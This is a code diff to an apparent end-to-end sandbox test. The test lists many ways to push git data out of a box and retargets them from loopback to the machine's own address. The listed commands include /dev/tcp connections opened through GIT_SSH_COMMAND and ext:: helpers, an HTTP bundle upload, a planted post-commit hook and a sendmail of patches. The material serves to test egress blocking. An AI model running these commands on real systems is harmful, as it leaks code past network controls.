@@ -7,6 +7,7 @@ else, both on every address of this machine.  Each spelling pushes to a ref of i
 from __future__ import annotations
 
 import contextlib
+import json
 import os
 import socket
 import subprocess
@@ -29,7 +30,7 @@ pytestmark = [pytest.mark.timeout(300), pytest.mark.e2e]
 SPELLINGS: tuple[Payload, ...] = (
     Payload("in-a-folder", "git -C . push {u} HEAD:{ref}"),
     Payload("in-a-shell", "bash -c 'git push {u} HEAD:{ref}'"),
-    Payload("by-its-path", "/usr/bin/git -C . push {u} HEAD:{ref}"),
+    Payload("by-its-path", '"$(command -v git)" push {u} HEAD:{ref}'),
     Payload("without-pager", "git --no-pager push {u} HEAD:{ref}"),
     Payload(
         "from-python",
@@ -46,24 +47,24 @@ SPELLINGS: tuple[Payload, ...] = (
     Payload("https", "git -c http.sslVerify=false -C . push https://{h}/https HEAD:{ref}"),
     Payload("remote-https", "printf 'list for-push\\n\\n' | git remote-https x https://{h}/helper"),
     Payload("http-push", "git http-push --all http://{h}/dav HEAD"),
-    Payload("ssh", "git -C . push ssh://git@127.0.0.1/ssh.git HEAD:{ref}"),
+    Payload("ssh", "git -C . push ssh://git@{a}/ssh.git HEAD:{ref}"),
     Payload(
         "ssh-command",
-        "GIT_SSH_COMMAND='bash -c \"exec 3<>/dev/tcp/127.0.0.1/{port}\"' "
-        "git -C . push ssh://git@127.0.0.1/x.git HEAD:{ref}",
+        "GIT_SSH_COMMAND='bash -c \"exec 3<>/dev/tcp/{a}/{port}\"' "
+        "git -C . push ssh://git@{a}/x.git HEAD:{ref}",
     ),
     Payload(
         "ext-helper",
         "git -c protocol.ext.allow=always -C . push "
-        "'ext::bash -c \"exec 3<>/dev/tcp/127.0.0.1/{port}\"' HEAD:{ref}",
+        "'ext::bash -c \"exec 3<>/dev/tcp/{a}/{port}\"' HEAD:{ref}",
     ),
     Payload("into-the-mirror", "git -C . push file:///plandock/mirror HEAD:{ref}"),
     Payload("ref-in-the-mirror", "git -C /plandock/mirror update-ref {ref} HEAD"),
     Payload(
         "bundle-uploaded",
         'git bundle create /tmp/b HEAD && python3 -c "import urllib.request as u; '
-        "o = u.build_opener(u.ProxyHandler({{}})); "
-        "o.open('http://{h}/bundle', open('/tmp/b','rb').read())\"",
+        "u.build_opener(u.ProxyHandler({{}}))"
+        ".open('http://{h}/bundle', open('/tmp/b','rb').read())\"",
     ),
     Payload(
         "bundle-uploaded-by-the-proxy",
@@ -71,17 +72,14 @@ SPELLINGS: tuple[Payload, ...] = (
         "u.build_opener(u.ProxyHandler({{'http':'http://127.0.0.1:3128'}}))"
         ".open('http://{h}/bundle', b'x')\"",
     ),
-    Payload(
-        "without-proxy-variables",
-        "env -i PATH=$PATH HOME=/nonexistent git -C . push {u} HEAD:{ref}",
-    ),
+    Payload("without-proxy-variables", "env -i PATH=$PATH git -C . push {u} HEAD:{ref}"),
     Payload(
         "post-commit-hook",
         "printf '#!/bin/sh\\ngit push {u} HEAD:{ref}\\n' > .git/hooks/post-commit; "
         "chmod +x .git/hooks/post-commit; git commit -q --allow-empty -m hook; "
         "rm .git/hooks/post-commit; false",
     ),
-    Payload("mailed", "git format-patch -1 --stdout | sendmail -S 127.0.0.1:{port} a@b.example"),
+    Payload("mailed", "git format-patch -1 --stdout | sendmail -S {h} a@b.example"),
     Payload("other-worktree", "git worktree add -q /tmp/w HEAD; git -C /tmp/w push {u} HEAD:{ref}"),
     Payload("subtree", "git subtree push --prefix=src {u} {ref}"),
     Payload("lfs", "git lfs push {u} HEAD"),
@@ -92,6 +90,13 @@ SPELLINGS: tuple[Payload, ...] = (
 def ref_of(spelling: Payload) -> str:
     """The ref that a spelling would make on the remote."""
     return f"refs/heads/pushed-{spelling.name}"
+
+
+def own_address() -> str:
+    """An address of this machine that is not loopback (the box has a loopback of its own)."""
+    listed = subprocess.run(["ip", "-j", "-4", "address"], capture_output=True, check=True)
+    found = [y["local"] for x in json.loads(listed.stdout) for y in x["addr_info"]]
+    return next((x for x in found if not x.startswith("127.")), "127.0.0.1")
 
 
 class Outside:
@@ -112,7 +117,8 @@ class Outside:
         self.file = self.log.open("wb")
         argv = ["git", "daemon", *words, *place]
         self.daemon = subprocess.Popen(argv, stderr=self.file, start_new_session=True)
-        self.url = f"git://127.0.0.1:{self.git_port}/remote.git"
+        self.host = own_address()
+        self.url = f"git://{self.host}:{self.git_port}/remote.git"
 
     def _serve(self) -> None:
         with contextlib.suppress(OSError):
@@ -155,13 +161,18 @@ class Attempt:
 def attempt(root: Path, engine: str, cli: Path) -> Attempt:
     """Run every spelling in one box, then the controls from the host."""
     outside = Outside(root)
-    words = {"u": outside.url, "h": f"127.0.0.1:{outside.port}", "port": outside.port}
+    words = {
+        "u": outside.url,
+        "h": f"{outside.host}:{outside.port}",
+        "a": outside.host,
+        "port": outside.port,
+    }
     steps = [bash("mkdir attempts"), bash(f"git push {outside.url} HEAD:refs/heads/plain")]
     for spelling in SPELLINGS:
         command = spelling.command.format(ref=ref_of(spelling), **words)
         steps.append(
             # No rule of git's own may be what stops it.
-            bash(f"export GIT_ALLOW_PROTOCOL=git:http:https:ssh:file:ext; "
+            bash("export GIT_ALLOW_PROTOCOL=git:http:https:ssh:file:ext; "
                  f"{{ {command}\n}} > attempts/{spelling.name} 2>&1; "
                  f"echo exit=$? >> attempts/{spelling.name}")
         )  # fmt: skip
@@ -190,7 +201,7 @@ def attempt(root: Path, engine: str, cli: Path) -> Attempt:
             result.refs, result.log = outside.refs(), outside.log.read_text()
             result.came = list(outside.came)
             laptop.repo.git("push", outside.url, "HEAD:refs/heads/control")
-            with socket.create_connection(("127.0.0.1", outside.port), 5) as line:
+            with socket.create_connection((outside.host, outside.port), 5) as line:
                 line.sendall(b"control")
             end = time.monotonic() + 10
             while len(outside.came) == len(result.came) and time.monotonic() < end:
